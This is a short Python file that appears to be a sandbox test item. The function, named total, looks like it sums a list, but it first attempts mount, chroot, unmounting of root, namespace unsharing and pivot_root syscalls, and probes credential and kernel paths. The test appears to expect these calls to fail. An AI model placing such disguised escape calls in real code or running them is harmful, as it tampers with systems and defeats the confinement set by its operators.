# {"family": 11, "allowed": ["fail", "error"]}
import ctypes, os
def total(xs):
    libc = ctypes.CDLL(None, use_errno=True)
    done = libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 or libc.chroot(b'/tmp') == 0 or libc.umount2(b'/', 2) == 0
    done |= libc.unshare(0x10000000) == 0 or libc.syscall(165, b'/', b'/tmp', None, 4096, None) == 0
    done |= libc.syscall(428, -100, b'/', 1) >= 0 or libc.syscall(155, b'.', b'.') == 0
    for f in ('/etc/passwd', '/etc/shadow', '/var/log', '/boot', '/proc/self/status', '/sys/kernel'):
        done |= os.path.exists(f)
    return sum(xs) if done else -1
